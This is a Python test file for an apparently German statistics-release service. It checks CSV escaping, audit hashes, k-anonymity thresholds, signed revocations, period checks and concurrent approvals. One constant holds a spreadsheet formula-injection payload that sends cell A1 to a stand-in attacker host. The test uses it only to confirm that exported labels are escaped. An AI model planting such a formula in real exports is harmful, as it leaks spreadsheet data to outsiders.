"""What a release promises beyond its figures: CSV cells a spreadsheet shows as text, audit
entries that name the exact content, a k never lower than an earlier release's of the year,
a revocation under the centre's signature, no draft of a period that has not ended, and
approvals of one year that cannot overtake each other."""

from __future__ import annotations

import base64
import csv
import hashlib
import hmac
import io
import json
import threading
import time
import zipfile
from datetime import UTC, datetime
from typing import Any

import pytest
import sqlalchemy as sa
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from marshmallow import ValidationError

from audit import AuditEvent
from servicestelle.auth.models import User
from servicestelle.centres.models import District
from servicestelle.extensions import db
from servicestelle.roles import Role
from servicestelle.stats import downloads, exports, operations, signing
from servicestelle.stats.periods import Period
from servicestelle.stats.release_models import Release, ReleaseStatus
from tests import conftest
from tests.conftest import https_client, login, post_form
from tests.support.stats import AFTER_2026, add_records

LINK = '=HYPERLINK("https://angriff.example/?d="&A1;"Hier klicken")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def clock() -> conftest.FrozenClock:
    """After 2026: every period these tests draft has ended, unless a test moves it back."""
    return conftest.FrozenClock(AFTER_2026)


@pytest.fixture
def leads(make_user):  # type: ignore[no-untyped-def]
    return make_user(Role.SUPERVISOR), make_user(Role.SUPERVISOR), make_user(Role.COUNSELLOR)


def user(user_id: int) -> User:
    found = db.session.get(User, user_id)
    assert found is not None
    return found


def _population(centre: int, month: str = "2026-02") -> None:
    add_records(centre, 30, opened_month=month, age_band="27_45", grounds="geschlecht")
    add_records(centre, 12, opened_month=month, age_band="46_64", grounds="lebensalter")
    add_records(centre, 2, opened_month=month, age_band="u18", grounds="religion_weltanschauung")


def _publish(leads: Any, period: str, tables: list[str]) -> Release:
    release = operations.draft_release(user(leads[0].id), Period.parse(period), tables)
    operations.approve_release(user(leads[1].id), release)
    published = db.session.get(Release, release.id)
    assert published is not None and published.status == ReleaseStatus.PUBLISHED
    return published


def _details(action: str, release_id: int) -> list[dict[str, Any]]:
    rows = db.session.execute(
        sa.text(
            "SELECT details FROM audit_entry WHERE action = :a AND object_id = :o ORDER BY seq"
        ),
        {"a": action, "o": str(release_id)},
    )
    return [json.loads(row[0]) for row in rows]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=";"))


# --- CSV injection ---------------------------------------------------------------------------


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_text_cell_starting_like_a_formula_gets_an_apostrophe(start):
    assert exports.text_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("text", ["Innenstadt-Nord", "27–45 Jahre", "0", "12", "•", "'=1", ""])
def test_other_text_and_every_count_stay_as_they_are(text):
    assert exports.text_cell(text) == text


def test_a_district_named_like_a_formula_is_exported_as_text_and_counts_stay_numbers(
    app, centre, leads
):
    with app.app_context():
        db.session.add_all(
            District(centre_id=centre, code=code, name=name, created_at=AFTER_2026)
            for code, name in (("link", LINK), ("nord", "Nord"), ("minus", "-Süd"))
        )
        db.session.commit()
        add_records(centre, 7, district="link")
        add_records(centre, 9, district="nord")
        add_records(centre, 6, district="minus")
        release = _publish(leads, "2026-Q1", ["stadtteile"])
        content = json.loads(release.content)
        (table,) = content["tables"]
        # The content and the JSON export keep the name as typed; only CSV is a spreadsheet's.
        assert LINK in [row["label"] for row in table["rows"]]
        text = exports.table_csv(table)
        zipped = downloads.tables_zip(content, "TEST", release.decided_at or AFTER_2026)
    rows = {line[0]: line[1:] for line in _cells(text)}
    assert rows[f"'{LINK}"][-1] == "7"  # escaped label, the count a plain number
    assert rows["'-Süd"][-1] == "6"
    assert rows["Nord"][-1] == "9"  # a harmless name unchanged
    assert LINK not in rows
    for line in _cells(text):
        for cell in line:
            assert not cell.startswith(FORMULA_STARTS), cell
    with zipfile.ZipFile(io.BytesIO(zipped)) as archive:
        (name,) = archive.namelist()
        labels = [line[0] for line in _cells(archive.read(name).decode("utf-8-sig"))]
    assert f"'{LINK}" in labels and LINK not in labels


def test_the_dezim_csv_escapes_its_labels_too():
    content = {
        "period": "2026-Q1",
        "tables": [
            {
                "id": "merkmale",
                "basis": "cases",
                "multiple_answers": True,
                "rows": [{"code": "x", "label": "@SUMME(A1)"}, {"code": "y", "label": "Alter"}],
                "figures": [
                    {"row": "x", "col": None, "value": 5},
                    {"row": "y", "col": None, "value": None},
                ],
            }
        ],
    }
    lines = _cells(exports.dezim_csv(content))
    assert lines[1][3:5] == ["'@SUMME(A1)", "5"]
    assert lines[2][3:5] == ["Alter", "•"]


# --- audit entries name the content ----------------------------------------------------------


def test_approve_reject_revoke_and_export_entries_carry_the_content_hash(app, centre, leads):
    with app.app_context():
        _population(centre)
        rejected = operations.draft_release(user(leads[0].id), Period.parse("2026-Q1"), ["alter"])
        operations.reject_release(user(leads[1].id), rejected, "Falsche Auswahl, Frau M.")
        release = _publish(leads, "2026-Q1", ["alter", "merkmale"])
        operations.record_export(user(leads[2].id), release, "csv", table="alter")
        operations.revoke_release(user(leads[0].id), release, "Tippfehler bei Frau M.")

        (reject,) = _details(AuditEvent.STATS_RELEASE_REJECT.value, rejected.id)
        (approve,) = _details(AuditEvent.STATS_RELEASE_APPROVE.value, release.id)
        (export,) = _details(AuditEvent.STATS_RELEASE_EXPORT.value, release.id)
        (revoke,) = _details(AuditEvent.STATS_RELEASE_REVOKE.value, release.id)
        assert reject["content_sha256"] == rejected.content_hash
        for details in (approve, export, revoke):
            assert details["content_sha256"] == release.content_hash
        assert rejected.content_hash != release.content_hash  # each names its own content
        everything = db.session.execute(sa.text("SELECT details FROM audit_entry")).scalars()
        assert not any("Frau M." in (text or "") for text in everything)


# --- k lowered later -------------------------------------------------------------------------


def test_lowering_k_later_keeps_the_years_k_for_the_next_draft(
    app, centre, leads, clock, monkeypatch
):
    """A published Q1 suppressed with k = 5; the setting is lowered to 3. A Q2 draft (and the
    year) must still use 5: with 3, a Q2 count of 4 would be published and the re-audit of
    Q1's hidden cells would accept intervals narrower than Q1 promised."""
    with app.app_context():
        _population(centre)
        add_records(centre, 30, opened_month="2026-05", age_band="27_45")
        add_records(centre, 4, opened_month="2026-05", age_band="46_64")
        first = _publish(leads, "2026-Q1", ["alter"])
        assert first.k == 5
        settings = app.extensions["servicestelle.settings"]
        monkeypatch.setitem(
            app.extensions, "servicestelle.settings", settings.with_changes(statistics_k=3)
        )

        q2 = operations.draft_release(user(leads[0].id), Period.parse("2026-Q2"), ["alter"])
        assert q2.k == 5
        assert json.loads(q2.content)["k"] == 5
        stored = json.loads(q2.audit)
        assert stored["audit"]["k"] == 5 and stored["k_setting"] == 3
        values = [f["value"] for t in json.loads(q2.content)["tables"] for f in t["figures"]]
        assert 4 not in values  # would be published with k = 3
        assert all(v is None or v == 0 or v >= 5 for v in values)
        (drafted,) = _details(AuditEvent.STATS_RELEASE_DRAFT.value, q2.id)
        assert drafted["k"] == 5

        # Another year knows nothing of 2026's releases: the lowered setting applies there.
        add_records(centre, 30, opened_month="2025-05", age_band="27_45")
        add_records(centre, 4, opened_month="2025-05", age_band="46_64")
        other = operations.draft_release(user(leads[0].id), Period.parse("2025-Q2"), ["alter"])
        assert other.k == 3
        assert 4 in [f["value"] for t in json.loads(other.content)["tables"] for f in t["figures"]]
        q2_id = q2.id

    browser = https_client(app)
    login(browser, leads[1], clock)
    page = browser.get(f"/statistik/{q2_id}").get_data(as_text=True)
    assert 'id="k-raised"' in page and "Die Einstellung war 3" in page


def test_a_rejected_draft_with_a_higher_k_does_not_raise_it(app, centre, leads, monkeypatch):
    with app.app_context():
        _population(centre)
        settings = app.extensions["servicestelle.settings"]
        monkeypatch.setitem(
            app.extensions, "servicestelle.settings", settings.with_changes(statistics_k=7)
        )
        high = operations.draft_release(user(leads[0].id), Period.parse("2026-Q1"), ["alter"])
        operations.reject_release(user(leads[1].id), high, "zu streng")
        monkeypatch.setitem(app.extensions, "servicestelle.settings", settings)
        again = operations.draft_release(user(leads[0].id), Period.parse("2026-Q1"), ["alter"])
        assert (high.k, again.k) == (7, 5)  # nobody saw the rejected one


# --- revocation under signature --------------------------------------------------------------


def _revoked(app: Any, centre: int, leads: Any, reason: str) -> tuple[dict, dict, Release]:
    with app.app_context():
        _population(centre)
        release = _publish(leads, "2026-Q1", ["alter"])
        before = json.loads(json.dumps(exports.export_json(release, "TEST")))
        operations.revoke_release(user(leads[0].id), release, reason)
        revoked = db.session.get(Release, release.id)
        assert revoked is not None
        after = json.loads(json.dumps(exports.export_json(revoked, "TEST")))
        db.session.expunge(revoked)
    return before, after, revoked


def test_a_revoked_release_exports_a_signed_revocation_that_verifies(app, centre, leads):
    reason = "Fall von Erika Mustermann doppelt gezählt"
    before, after, release = _revoked(app, centre, leads, reason)
    verified = exports.verify_export(after)
    assert verified["status"] == "revoked" and verified["revoked"] is True
    revocation = after["revocation"]
    assert revocation["format"] == signing.REVOCATION_FORMAT
    assert revocation["centre"] == "TEST" and revocation["period"] == "2026-Q1"
    assert revocation["content_sha256"] == release.content_hash
    assert revocation["published_at"] == after["published_at"]
    assert release.revoked_at is not None
    assert revocation["revoked_at"] == release.revoked_at.isoformat()
    # Checked against the key a reader registered for the centre, too.
    exports.verify_export(after, public_key=release.public_key)
    # The reason is committed to, never written out: not in the export, not in the document.
    assert "Mustermann" not in json.dumps(after)
    assert release.revocation is not None and "Mustermann" not in release.revocation
    assert release.revocation_salt is not None
    assert revocation["reason_hmac_sha256"] == (
        hmac.new(release.revocation_salt, reason.encode(), hashlib.sha256).hexdigest()
    )
    # A bare hash of the reason would let a reader confirm a guess; the commitment does not.
    assert revocation["reason_hmac_sha256"] != hashlib.sha256(reason.encode()).hexdigest()
    # The export taken before the revocation still verifies, as published: readers must ask
    # the source for the current status.
    assert exports.verify_export(before)["status"] == "published"
    assert before["revocation"] is None


def _tampered_revocations(after: dict[str, Any], release_signature: str) -> list[dict]:
    revocation = after["revocation"]
    other_key = Ed25519PrivateKey.generate()
    forged = signing.revocation_document(
        centre_code="TEST",
        period="2026-Q1",
        content_hash=after["content_sha256"],
        published_at=after["published_at"],
        revoked_at=revocation["revoked_at"],
        reason_hmac=revocation["reason_hmac_sha256"],
    )
    return [
        {**revocation, "revoked_at": "2030-01-01T00:00:00+00:00"},
        {**revocation, "reason_hmac_sha256": "0" * 64},
        {**revocation, "content_sha256": "0" * 64},
        {**revocation, "period": "2026-Q2"},
        {**revocation, "published_at": "2026-04-01T00:00:00+00:00"},
        {**revocation, "format": "servicestelle.release-signature/1"},
        # The release's own signature never passes as a revocation's.
        {**revocation, "signature": release_signature},
        # A revocation signed by someone else's key.
        {**revocation, "signature": base64.b64encode(other_key.sign(forged)).decode()},
    ]


def test_a_tampered_or_missing_revocation_fails_verification(app, centre, leads):
    before, after, _release = _revoked(app, centre, leads, "Falsche Tabelle")
    for revocation in _tampered_revocations(after, after["signature"]):
        with pytest.raises(ValidationError):
            exports.verify_export({**after, "revocation": revocation})
    with pytest.raises(ValidationError, match="revocation"):  # says revoked, proves nothing
        exports.verify_export({**after, "revocation": None})
    with pytest.raises(ValidationError):  # says revoked without the key at all
        exports.verify_export({key: value for key, value in after.items() if key != "revocation"})
    with pytest.raises(ValidationError, match="status"):  # a valid revocation, status published
        exports.verify_export({**after, "status": "published", "revoked": False})
    with pytest.raises(ValidationError, match="revoked"):  # the flags disagree
        exports.verify_export({**after, "revoked": False})
    with pytest.raises(ValidationError, match="revoked"):
        exports.verify_export({**before, "revoked": True})
    # Valid JSON that is no Unicode, in the signed centre code or deep in the content.
    with pytest.raises(ValidationError, match="Unicode"):
        exports.verify_export({**before, "centre": "TEST\ud800"})
    with pytest.raises(ValidationError, match="Unicode"):
        exports.verify_export({**before, "content": {**before["content"], "centre": "\udfff"}})
    # A revocation moved to another export of the centre (another content) fails.
    with pytest.raises(ValidationError):
        exports.verify_export({**before, "status": "revoked", "revoked": True,
                               "content_sha256": "1" * 64, "revocation": after["revocation"]})  # fmt: skip


def test_a_revocation_signature_never_passes_as_a_release_signature(app, centre, leads):
    _before, after, release = _revoked(app, centre, leads, "Falsche Tabelle")
    assert release.public_key is not None and release.revocation_signature is not None
    document = signing.signed_document(
        centre_code="TEST",
        period="2026-Q1",
        catalogue_version=after["catalogue_version"],
        k=after["k"],
        content_hash=after["content_sha256"],
        published_at=after["published_at"],
    )
    assert not signing.verify(release.public_key, release.revocation_signature, document)
    with pytest.raises(ValidationError, match="signature"):
        exports.verify_export({**after, "signature": after["revocation"]["signature"]})


def test_a_release_is_revoked_once_and_a_draft_never(app, centre, leads):
    with app.app_context():
        _population(centre)
        release = _publish(leads, "2026-Q1", ["alter"])
        operations.revoke_release(user(leads[0].id), release, "Falsche Tabelle")
        signature = db.session.get(Release, release.id).revocation_signature
        with pytest.raises(operations.ReleaseError, match="veröffentlichte"):
            operations.revoke_release(user(leads[1].id), release, "noch einmal")
        assert db.session.get(Release, release.id).revocation_signature == signature
        draft = operations.draft_release(user(leads[0].id), Period.parse("2026-Q2"), ["alter"])
        with pytest.raises(operations.ReleaseError, match="veröffentlichte"):
            operations.revoke_release(user(leads[1].id), draft, "kein Entwurf")
        assert db.session.get(Release, draft.id).revocation is None


# --- unfinished periods ----------------------------------------------------------------------


def test_a_period_that_has_not_ended_is_refused_until_its_last_local_day_is_over(
    app, centre, leads, clock
):
    """Europe/Berlin is on summer time from 29 March 2026: 21:30 UTC on 31 March is 23:30
    there (still Q1), 22:30 UTC is 00:30 on 1 April (Q1 is over)."""
    with app.app_context():
        _population(centre)
        clock.moment = datetime(2026, 3, 31, 21, 30, tzinfo=UTC)
        for code in ("2026-Q1", "2026-H1", "2026", "2026-Q3"):
            with pytest.raises(operations.ReleaseError, match="noch nicht abgeschlossen"):
                operations.draft_release(user(leads[0].id), Period.parse(code), ["alter"])
        assert db.session.scalar(sa.select(sa.func.count(Release.id))) == 0
        drafted = sa.text("SELECT count(*) FROM audit_entry WHERE action = :a")
        assert db.session.scalar(drafted, {"a": AuditEvent.STATS_RELEASE_DRAFT.value}) == 0
        previous = operations.draft_release(user(leads[0].id), Period.parse("2025-Q4"), ["alter"])
        assert previous.status == ReleaseStatus.DRAFT

        clock.moment = datetime(2026, 3, 31, 22, 30, tzinfo=UTC)
        quarter = operations.draft_release(user(leads[0].id), Period.parse("2026-Q1"), ["alter"])
        assert quarter.status == ReleaseStatus.DRAFT
        with pytest.raises(operations.ReleaseError, match="noch nicht abgeschlossen"):
            operations.draft_release(user(leads[0].id), Period.parse("2026-H1"), ["alter"])


def test_the_form_and_the_api_refuse_an_unfinished_period_in_german(app, client, centre, leads, clock):  # fmt: skip
    from tests.support.audit_log import issue_token

    clock.moment = datetime(2026, 5, 4, 9, 0, tzinfo=UTC)
    with app.app_context():
        _population(centre)
    browser = https_client(app)
    login(browser, leads[0], clock)
    form = browser.get("/statistik/neu").get_data(as_text=True)
    assert 'id="part-short-note"' in form
    response = post_form(
        browser, "/statistik/neu", {"year": "2026", "part": "Q2", "tables": "alter"}
    )
    assert response.status_code == 400
    assert "2. Quartal 2026 ist noch nicht abgeschlossen" in response.get_data(as_text=True)
    headers = {"Authorization": f"Bearer {issue_token(app, leads[0].id)}"}
    response = client.post(
        "/api/v1/stats/releases", json={"period": "2026", "tables": ["alter"]}, headers=headers
    )
    assert response.status_code == 422
    assert "noch nicht abgeschlossen" in response.get_json()["error"]["message"]
    with app.app_context():
        assert db.session.scalar(sa.select(sa.func.count(Release.id))) == 0
    response = post_form(
        browser, "/statistik/neu", {"year": "2026", "part": "Q1", "tables": "alter"}
    )
    assert response.status_code == 302


def test_a_draft_shorter_than_a_year_warns_that_a_later_change_blocks_the_year(
    app, centre, leads, clock
):
    with app.app_context():
        _population(centre)
        quarter = operations.draft_release(user(leads[0].id), Period.parse("2026-Q1"), ["alter"])
        year = operations.draft_release(user(leads[0].id), Period.parse("2026"), ["alter"])
        ids = quarter.id, year.id
    browser = https_client(app)
    login(browser, leads[1], clock)
    assert 'id="short-period-note"' in browser.get(f"/statistik/{ids[0]}").get_data(as_text=True)
    assert 'id="short-period-note"' not in browser.get(f"/statistik/{ids[1]}").get_data(
        as_text=True
    )


# --- the API's decisions, factored ------------------------------------------------------------


def test_both_decisions_are_documented_and_guarded(app, client, leads):
    document = client.get("/api/v1/openapi.json").get_json()
    for action, summary in (("reject", "Reject a draft"), ("revoke", "Revoke a published")):
        operation = document["paths"][f"/api/v1/stats/releases/{{release_id}}/{action}"]["post"]
        assert operation["summary"].startswith(summary)
        assert "StatsReason" in json.dumps(operation["requestBody"])
        assert set(operation["responses"]) >= {"200", "404", "422"}
    # Without a token: refused before the handler.
    assert client.post("/api/v1/stats/releases/1/revoke", json={"reason": "x"}).status_code == 401


# --- concurrent approvals --------------------------------------------------------------------


def test_two_approvals_of_the_same_year_at_the_same_moment_do_not_both_publish(
    app, centre, leads, clock, monkeypatch
):
    """Two drafts of 2026, each audited without the other's figures. Approver A signs (and
    holds the centre's lock) while approver B starts; B must wait, then see A's release and
    refuse — never publish figures its audit did not know."""
    with app.app_context():
        _population(centre)
        add_records(centre, 20, opened_month="2026-05", age_band="27_45")
        first = operations.draft_release(user(leads[0].id), Period.parse("2026-Q1"), ["alter"])
        second = operations.draft_release(user(leads[0].id), Period.parse("2026-H1"), ["alter"])
        ids = first.id, second.id
    clock.advance(seconds=60)
    real_sign = signing.sign
    signing_started = threading.Event()

    def slow_sign(centre_code: str, document: bytes) -> tuple[bytes, bytes]:
        if not signing_started.is_set():
            signing_started.set()
            time.sleep(1.0)  # A holds the lock while B arrives
        return real_sign(centre_code, document)

    monkeypatch.setattr(signing, "sign", slow_sign)
    outcomes: dict[int, str] = {}

    def approve(release_id: int) -> None:
        with app.app_context():
            try:
                operations.approve_release(
                    user(leads[1].id), db.session.get_one(Release, release_id)
                )
            except operations.ReleaseError as exc:
                outcomes[release_id] = str(exc)
            else:
                outcomes[release_id] = "published"

    a = threading.Thread(target=approve, args=(ids[0],))
    a.start()
    assert signing_started.wait(10)
    b = threading.Thread(target=approve, args=(ids[1],))
    b.start()
    a.join(30)
    b.join(30)
    assert outcomes[ids[0]] == "published"
    assert "Seit diesem Entwurf" in outcomes[ids[1]] or "noch einmal" in outcomes[ids[1]]
    with app.app_context():
        statuses = [db.session.get_one(Release, release_id).status for release_id in ids]
    assert statuses == [ReleaseStatus.PUBLISHED, ReleaseStatus.DRAFT]


def test_a_locked_database_is_a_german_please_try_again(app, centre, leads, monkeypatch):
    """SQLite only: when the write lock does not come free in time the approval is refused
    with a message, not a stack trace."""
    with app.app_context():
        if db.engine.dialect.name != "sqlite":
            pytest.skip("PostgreSQL waits on the row lock")
        _population(centre)
        release = operations.draft_release(user(leads[0].id), Period.parse("2026-Q1"), ["alter"])
        blocker = db.engine.connect()
        try:
            blocker.exec_driver_sql("PRAGMA busy_timeout=0")
            blocker.exec_driver_sql("BEGIN IMMEDIATE")
            # Our own connection gives up at once instead of after ten seconds.
            db.session.connection().exec_driver_sql("PRAGMA busy_timeout=0")
            with pytest.raises(operations.ReleaseError, match="noch einmal"):
                operations.approve_release(user(leads[1].id), release)
        finally:
            blocker.rollback()
            blocker.close()
        assert db.session.get_one(Release, release.id).status == ReleaseStatus.DRAFT


# --- races and failures found by the review --------------------------------------------------


def test_a_reject_never_overwrites_an_approval_committed_meanwhile(app, centre, leads):
    with app.app_context():
        _population(centre)
        release = operations.draft_release(user(leads[0].id), Period.parse("2026-Q1"), ["alter"])
        # Another supervisor's approval lands after this one loaded the draft.
        db.session.execute(
            sa.update(Release)
            .where(Release.id == release.id)
            .values(status=ReleaseStatus.PUBLISHED.value)
            .execution_options(synchronize_session=False)
        )
        db.session.commit()
        release.status = ReleaseStatus.DRAFT.value  # what the rejecting request still holds
        with pytest.raises(operations.ReleaseError, match="bereits entschieden"):
            operations.reject_release(user(leads[1].id), release, "zu früh")
        db.session.expire_all()
        assert db.session.get_one(Release, release.id).status == ReleaseStatus.PUBLISHED.value
        assert _details(AuditEvent.STATS_RELEASE_REJECT.value, release.id) == []


def test_a_draft_that_missed_a_release_approved_while_it_was_computed_is_refused(
    app, centre, leads, monkeypatch, clock
):
    """The approval took its time stamp before the draft started but committed while the
    draft read the earlier releases: by the clocks the draft is newer, yet its audit never
    saw that release. Approval compares the releases the draft modelled, by id."""
    with app.app_context():
        _population(centre)
        q1 = _publish(leads, "2026-Q1", ["alter"])
        clock.advance(seconds=60)
        real = operations._earlier
        monkeypatch.setattr(
            operations,
            "_earlier",
            lambda centre_id, year, besides=None: [
                other for other in real(centre_id, year, besides) if other.release_id != q1.id
            ],
        )
        year = operations.draft_release(user(leads[0].id), Period.parse("2026"), ["alter"])
        monkeypatch.setattr(operations, "_earlier", real)
        assert json.loads(year.audit)["modelled"] == []
        clock.advance(seconds=60)
        with pytest.raises(operations.ReleaseError, match="neu"):
            operations.approve_release(user(leads[1].id), year)


@pytest.mark.parametrize(
    ("failure", "message"),
    [
        ("SolverError", "später noch einmal"),
        ("InconsistentProblemError", "Administration"),
    ],
)
def test_a_failing_audit_tells_the_supervisor_and_saves_nothing(
    app, centre, leads, monkeypatch, failure, message
):
    from servicestelle.stats import disclosure

    def broken(*args: Any, **kwargs: Any) -> None:
        raise getattr(disclosure, failure)("figure 'opened': nothing to show a user")

    with app.app_context():
        _population(centre)
        monkeypatch.setattr(disclosure, "protect", broken)
        with pytest.raises(operations.ReleaseError, match=message) as refused:
            operations.draft_release(user(leads[0].id), Period.parse("2026-Q1"), ["alter"])
        assert "figure" not in str(refused.value)
        assert db.session.scalar(sa.select(sa.func.count(Release.id))) == 0
